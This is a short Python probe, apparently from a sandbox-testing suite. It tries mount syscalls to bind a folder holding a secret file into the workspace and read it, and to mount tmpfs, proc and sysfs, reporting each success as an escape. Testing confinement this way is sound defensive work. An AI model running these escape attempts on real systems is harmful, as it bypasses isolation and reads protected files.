# Mounts a file system, and binds a folder from outside into the workspace.
# Why: whoever mounts decides what is where, and every read-only or hidden path ends there.
# needs: any
# at-none: escapes as root
import os
from attempt import MNT_DETACH, MS_BIND_REC, escaped, facts, run, steal_file, syscall

os.makedirs('point', exist_ok=True)


def mounted(source, kind, flags, then):
    syscall('mount', source, b'point', kind, flags, None)
    try:
        then()
    finally:
        syscall('umount2', b'point', MNT_DETACH)


def bind():
    mounted(os.path.dirname(facts['secretFile']).encode(), None, MS_BIND_REC, lambda: steal_file('point/secret'))


def memory():
    mounted(b'x', b'tmpfs', 0, lambda: escaped('mounted memory'))


def processes():
    mounted(b'x', b'proc', 0, lambda: escaped('mounted proc'))


def kernel():
    mounted(b'x', b'sysfs', 0, lambda: escaped('mounted sys'))


run(bind, memory, processes, kernel)
